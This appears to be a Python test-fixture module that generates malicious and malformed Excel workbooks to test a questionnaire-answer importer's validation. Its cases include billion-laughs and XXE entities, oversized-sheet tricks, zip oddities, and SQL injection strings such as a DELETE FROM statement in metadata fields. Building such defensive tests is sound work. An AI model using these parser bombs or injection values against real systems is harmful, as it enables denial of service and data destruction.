        "billion laughs in xl/sharedStrings.xml",
        shared_strings(LAUGHS_DTD, b"&l9;"),
        ("x.unsafe_xml",),
        place="part",
    ),
    Kind(
        "xxe-workbook-xml",
        "external entity in xl/workbook.xml",
        lambda s, t: rewrite_zip(
            s.base,
            t,
            {"xl/workbook.xml": with_doctype(XXE_DTD, b'name="&xxe;"', 'name="Özet"'.encode())},
        ),
        ("x.unsafe_xml",),
        place="part",
    ),
    Kind(
        "laughs-workbook-xml",
        "billion laughs in xl/workbook.xml",
        lambda s, t: rewrite_zip(
            s.base,
            t,
            {"xl/workbook.xml": with_doctype(LAUGHS_DTD, b'name="&l9;"', 'name="Özet"'.encode())},
        ),
        ("x.unsafe_xml",),
        place="part",
    ),
    Kind(
        "laughs-content-types",
        "billion laughs in [Content_Types].xml",
        lambda s, t: rewrite_zip(
            s.base,
            t,
            {
                "[Content_Types].xml": with_doctype(
                    LAUGHS_DTD, b'<Default Extension="l" ContentType="&l9;"/></Types>', b"</Types>"
                )
            },
        ),
        ("x.unsafe_xml",),
        place="part",
    ),
    # Sheets and columns
    Kind(
        "meta-sheet-removed",
        "the hidden machine sheet deleted",
        _drop_sheet(META_SHEET),
        ("x.no_meta",),
        place="sheet",
    ),
    Kind(
        "meta-sheet-renamed",
        "the hidden machine sheet renamed",
        _rename_sheet(META_SHEET, "meta"),
        ("x.no_meta",),
        place="sheet",
    ),
    Kind(
        "sheet-part-missing",
        "the answers sheet's relationship points at a missing part",
        lambda s, t: rewrite_zip(
            s.base,
            t,
            {
                "xl/_rels/workbook.xml.rels": lambda d: d.replace(
                    b"/xl/worksheets/sheet2.xml", b"/xl/worksheets/sheet9.xml"
                )
            },
        ),
        ("x.unreadable",),
        place="sheet",
    ),
    Kind(
        "answers-sheet-removed",
        "the answers sheet deleted",
        _drop_sheet(ANSWERS_SHEET),
        ("x.no_answers_sheet",),
        place="file",
    ),
    Kind(
        "key-columns-missing",
        "two column keys blanked or renamed",
        _missing_columns,
        ("x.missing_column",),
    ),
    Kind("merged-key-row", "cells merged over the key row", _merged_key_row, ("x.missing_column",)),
    Kind("far-cell", "a value in cell XFD1048576", _far_cell, ("x.sheet_too_large",)),
    Kind("junk-rows", "10,000 rows of junk below the table", _junk_rows, ("x.row_without_id",)),
    # Rows and values
    Kind(
        "duplicate-question",
        "a question answered on two rows",
        _duplicate_rows,
        ("x.duplicate_question",),
    ),
    Kind(
        "unknown-question",
        "unknown question ids (one an SQL injection)",
        _unknown_ids,
        ("x.unknown_question",),
    ),
    Kind("level-minus-one", "level -1", _level(-1), ("x.level",)),
    Kind("level-six", "level 6", _level(6), ("x.level",)),
    Kind("level-fraction", "level 2.5", _level(2.5), ("x.level",)),
    Kind("level-word", 'level "üç"', _level("üç"), ("x.level",)),
    Kind("level-boolean", "level TRUE", _level(True), ("x.level",)),
    Kind("level-date", "dates instead of numbers", _dates, ("x.level",)),
    Kind(
        "date-column-negative",
        "-10^12 typed in the date-formatted 'last changed' column",
        lambda s, t: set_answer_cells(s.base, t, {(0, "updated_at"): -1e12}),
        ("x.unreadable",),
        place="sheet",
    ),
    Kind(
        "formula",
        "formulas in a level and a note (=HYPERLINK exfiltration)",
        _formula,
        ("x.formula",),
    ),
    Kind("error-value", "#REF! in a level", _error_value, ("x.error_value",)),
    Kind("na-garbage", 'N/A "belki"', _na_garbage, ("x.not_applicable",)),
    Kind("target-below-current", "target 1 below current 4", _target_below, ("a.target_below",)),
    Kind(
        "na-without-justification",
        "N/A without a justification",
        _na_without_note,
        ("a.na_needs_note",),
    ),
    Kind("note-5mb", "a 5 MB note", _huge_note, ("a.text_too_long",)),
    # The machine sheet
    Kind(
        "meta-format-99",
        "format_version 99",
        lambda s, t: set_meta(s.base, t, format_version="99"),
        ("x.format_newer",),
    ),
    Kind(
        "meta-uuid-garbage",
        "assessment_uuid garbage",
        lambda s, t: set_meta(s.base, t, assessment_uuid="'; DELETE FROM units; --"),
        ("x.meta_bad_value",),
    ),
    Kind(
        "meta-uuid-missing",
        "the assessment_uuid row's key erased",
        _meta_key_erased("assessment_uuid"),
        ("x.meta_missing",),
    ),
    Kind(
        "meta-unit-blank",
        "the unit erased",
        lambda s, t: set_meta(s.base, t, unit=""),
        ("x.unit_missing",),
    ),
    Kind(
        "meta-kind-unknown",
        "kind 'virus'",
        lambda s, t: set_meta(s.base, t, kind="virus"),
        ("x.meta_bad_value",),
    ),
    Kind(
        "meta-hash-garbage",
        "content_sha256 not a digest",
        lambda s, t: set_meta(s.base, t, content_sha256="abc"),
        ("x.meta_bad_value",),
    ),
    Kind(
        "wrong-questionnaire",
        "another questionnaire id",
        lambda s, t: set_meta(s.base, t, questionnaire_id="baska-soru-seti"),
        ("x.questionnaire_mismatch",),
    ),
    Kind(
        "edited-after-export",
        "answers edited in Excel after export (checksum mismatch)",
        _edited_after_export,
        ("x.modified",),
        place="file",
    ),
    # Issue 13: what the byte patterns of the first safety check missed (rc 134 aborts)
    Kind(
        "far-cell-single-quotes",
        "r='XFD1048576' in single quotes",
        _far(b"<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>x</t></is></c></row>"),
        ("x.sheet_too_large",),
    ),
    Kind(
        "far-cell-lower-case-spaced",
        'r = "xfd1048576", lower case and spaced',
        _far(b'<row r = "1048576" ><c r = "xfd1048576" t="inlineStr"><is><t>x</t></is></c></row>'),
        ("x.sheet_too_large",),
    ),
    Kind(
        "far-cell-prefixed",
        "<x:c> with a namespace prefix",
        _far(
            b'<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'r="1048576"><x:c r="XFD1048576" t="inlineStr"><x:is><x:t>x</x:t></x:is></x:c></x:row>'
        ),
        ("x.sheet_too_large",),
    ),
    Kind(
        "far-row-no-cell-refs",
        "row 1048576 whose cells carry no r (an 11-million-cell grid)",
        _far(b'<row r="1048576"><c t="inlineStr"><is><t>x</t></is></c></row>'),
        ("x.sheet_too_large",),
    ),
    Kind(
        "huge-dimension",
        "a declared dimension of A1:XFD1048576",
        _declared_dimension(b'<dimension ref="A1:XFD1048576" />'),
        ("x.sheet_too_large",),
    ),
    Kind(
        "same-sheet-name-twice",
        "a second 'Yanıtlar' sheet whose part holds a far cell",
        _same_name_twice,
        ("x.sheet_too_large",),
    ),
    Kind(
        "case-twin-parts",
        "sheet2.xml and SHEET2.xml, one with a far cell",
        _case_twins,
        ("x.corrupt",),
        place="file",
    ),
    Kind(
        "shared-strings-count",
        "sharedStrings declaring 4,000,000,000 strings",
        _shared_strings_count,
        ("x.unsafe_xml",),
        place="part",
    ),
    Kind(
        "formula-single-quotes",
        "a formula in cell r='D3'",
        _cell("D3", b"<c r='D3'><f>1+1</f><v>2</v></c>"),
        ("x.formula",),
    ),
    Kind(
        "formula-spaced",
        'a formula in cell r = "D4"',
        _cell("D4", b'<c r = "D4" ><f>1+1</f><v>2</v></c>'),
        ("x.formula",),
    ),
    Kind(
        "error-single-quotes",
        "an error value t='e' in a level",
        _cell("F3", b"<c r='F3' t='e'><v>#REF!</v></c>"),
        ("x.error_value",),
    ),
    Kind(
        "merged-level-cells",
        "a level cell merged over three questions",
        _merged_level,
        ("x.merged_cells",),
    ),
    Kind(
        "oversize-sheet-part",
        "an answers sheet part of 17 MB",
        _oversize_part,
        ("x.part_too_large",),
        place="sheet",
    ),
    Kind(
        "level-infinite",
        "a level of 1e400 (infinity)",
        _cell("D3", b'<c r="D3"><v>1e400</v></c>'),
        ("x.level",),
    ),
    Kind(
        "level-minus-infinite",
        "a level of -inf",
        _cell("D3", b'<c r="D3"><v>-inf</v></c>'),
        ("x.level",),
    ),
    Kind("level-nan", "a level of NaN", _cell("D3", b'<c r="D3"><v>NaN</v></c>'), ("x.level",)),
    Kind(
        "question-id-32k",
        "a 40,000-character question no.",
        _cell("B3", b'<c r="B3" t="inlineStr"><is><t>' + b"Q" * 40_000 + b"</t></is></c>"),
        ("x.unknown_question",),
    ),
    Kind(
        "meta-revision-huge",
        "a revision of 2^64",
        _meta_value("revision", b"18446744073709551616"),
        ("x.meta_bad_value",),
    ),
    Kind(
        "meta-round-5000-digits",
        "a round of 5,000 digits",
        _meta_value("round", b"7" * 5000),
        ("x.value_too_long",),
    ),
    Kind(
        "meta-unit-32k",
        "a unit name of 40,000 characters",
        _meta_value("unit", b"B" * 40_000),
        ("x.value_too_long",),
    ),
    Kind(
        "meta-scope-nested",
        "out_of_scope nested 30,000 deep",
        _meta_value("out_of_scope", b"[" * 30_000),
        ("x.meta_bad_value",),
    ),
    Kind(
        "meta-exported-far-future",
        "exported_at 9999-12-31",
        _meta_value("exported_at", b"9999-12-31T00:00:00.000Z"),
        ("x.time_in_future",),
    ),
    Kind(
        "meta-updated-far-future",
        "updated_at past year 9999 in UTC",
        _meta_value("updated_at", b"9999-12-31T23:00:00-05:00"),
        ("x.meta_bad_value",),
    ),
    Kind(
        "identity-spoofed",
        "unit, uuid and revision of another unit edited on _meta",
        _identity_spoofed,
        ("x.modified",),
        place="file",
    ),
    Kind(
        "instructions-sheet-removed",
        "a template whose instructions sheet (the form) is deleted",
        _removed_instructions,
        ("x.no_form_sheet",),
        place="file",
    ),
    # Odd but legitimate: these import, cleaned
    Kind(
        "control-characters",
        "control characters in notes",
        _weird_text("control", CONTROL_NOTE),
        outcome="imported",
    ),
    Kind(
        "right-to-left",
        "right-to-left Arabic and Hebrew with bidi marks",
        _weird_text("rtl", RTL_NOTE),
        outcome="imported",
    ),
    Kind(
        "emoji",
        "emoji, joiners, flags, astral letters",
        _weird_text("emoji", EMOJI_NOTE),
        outcome="imported",
    ),
    Kind(
        "sql-in-names",
        "SQL in the unit name and notes (stored as text, never run)",
        _weird_text("sql", "x'); DELETE FROM answers; --"),
        outcome="imported",
    ),
    Kind(
        "answers-sheet-renamed",
        "answers sheet renamed Sayfa1",
        _renamed_answers_sheet,
        outcome="imported",
    ),
    Kind(
        "zip-local-header-lies",
        "local headers lie, the central directory is right",
        _local_header_lies_tolerated,
        outcome="imported",
    ),
)

KINDS_BY_NAME = {kind.name: kind for kind in KINDS}
# The workbook attacks of issue 13 (what the first, byte-pattern safety check missed).
ISSUE_13 = tuple(
    kind.name
    for kind in KINDS[
        KINDS.index(KINDS_BY_NAME["far-cell-single-quotes"]) : KINDS.index(
            KINDS_BY_NAME["instructions-sheet-removed"]
        )
        + 1
    ]
)
REJECTED = tuple(kind for kind in KINDS if kind.outcome == "rejected")
IMPORTED = tuple(kind for kind in KINDS if kind.outcome == "imported")
IMPORTED_UNITS = {
    "control-characters": WEIRD_UNITS["control"],
    "right-to-left": WEIRD_UNITS["rtl"],
    "emoji": WEIRD_UNITS["emoji"],
    "sql-in-names": WEIRD_UNITS["sql"],
    "answers-sheet-renamed": "Sayfası Yeniden Adlandırılan Birim",
    "zip-local-header-lies": "Yerel Başlığı Yanlış Birim",
}


def build_sample(source: Source, kind: Kind, folder: Path, number: int = 0) -> Sample:
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / f"{number:02d}-{kind.name}{kind.suffix}"
    path = kind.build(source, target)
    unit = IMPORTED_UNITS.get(kind.name, "")
    return Sample(kind, path, unit, source.notes.get(unit, {}))


def build_corpus(source: Source, folder: Path, kinds: Iterable[Kind] = KINDS) -> list[Sample]:
    """Write one file per kind into ``folder`` (named ``NN-kind.xlsx``)."""
    return [
        build_sample(source, kind, folder, number) for number, kind in enumerate(kinds, start=1)
    ]


@contextmanager
def deny_reading(monkeypatch, paths: Iterable[Path]):
    """Make opening ``paths`` fail with EACCES, as chmod 000 does for anyone but root."""
    denied = {os.path.realpath(p) for p in paths}
    real_open, real_os_open = io.open, os.open

    def refuse(path):
        if (
            isinstance(path, (str, bytes, os.PathLike))
            and os.path.realpath(os.fsdecode(path)) in denied
        ):
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), os.fsdecode(path))

    def guarded_open(file, *args, **kwargs):
        refuse(file)
        return real_open(file, *args, **kwargs)

    def guarded_os_open(path, *args, **kwargs):
        refuse(path)
        return real_os_open(path, *args, **kwargs)

    with monkeypatch.context() as patch:
        patch.setattr(io, "open", guarded_open)
        patch.setattr("builtins.open", guarded_open)
        patch.setattr(os, "open", guarded_os_open)
        yield


TABLES = ("units", "assessments", "answers", "answer_history", "imports")


def row_counts(store) -> dict[str, int]:
    """Rows per table: what "nothing was stored" is checked against."""
    return {
        table: store._conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
        for table in TABLES
    }
